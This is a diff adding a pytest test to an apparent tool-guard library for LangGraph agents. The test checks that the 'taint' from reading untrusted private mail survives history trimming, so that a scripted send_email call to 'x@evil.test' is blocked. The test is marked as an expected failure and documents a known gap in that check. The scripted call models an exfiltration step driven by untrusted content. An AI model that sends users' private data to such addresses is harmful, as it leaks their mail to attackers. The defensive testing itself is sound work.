@@ -284,6 +284,59 @@ def test_a_command_result_carries_the_runs_taint_to_the_next_request() -> None:
     assert outbox.sent == []
 
 
+@pytest.mark.xfail(
+    strict=True,
+    reason="the run's taint lives only in ToolMessages: history trimming or "
+    "summarization (RemoveMessage) drops it; a state channel of its own that "
+    "trimming does not touch is missing",
+)
+def test_the_runs_taint_survives_history_trimming() -> None:
+    from langchain_core.messages import RemoveMessage
+    from langgraph.graph.message import REMOVE_ALL_MESSAGES
+
+    outbox = Outbox()
+    g = guard()
+    saver = InMemorySaver()
+
+    @tool
+    def read_inbox(folder: str) -> str:
+        """Read the user's mail (private, and untrusted content)."""
+        return "mail: hi"
+
+    tools = [
+        *make_tools(outbox),
+        guard_tool(g, read_inbox, data="internal", untrusted_output=True),
+    ]
+    first = build_graph(
+        [turn(call("read_inbox", {"folder": "in"}, "r1")), AIMessage("read")],
+        guard_tool_node(g, tools),
+        checkpointer=saver,
+    )
+    with acting_as(ALICE), agent_run():
+        first.invoke({"messages": [HumanMessage("read my mail")]}, cfg("trim"))
+    # What a summarization step does to a long history.
+    first.update_state(
+        cfg("trim"),
+        {
+            "messages": [
+                RemoveMessage(id=REMOVE_ALL_MESSAGES),
+                HumanMessage("summary: the user read their mail"),
+            ]
+        },
+    )
+    second = build_graph(
+        [
+            turn(call("send_email", {"to": "x@evil.test", "body": "b"}, "e1")),
+            AIMessage("done"),
+        ],
+        guard_tool_node(g, tools),
+        checkpointer=saver,
+    )
+    with acting_as(ALICE), agent_run(), pytest.raises(ToolForbidden) as info:
+        second.invoke({"messages": [HumanMessage("now send it")]}, cfg("trim"))
+    assert info.value.code == "tainted_run_needs_confirmation"
+
+
 # -- 3. code ---------------------------------------------------------------------
 
 _OPENED: list[str] = []
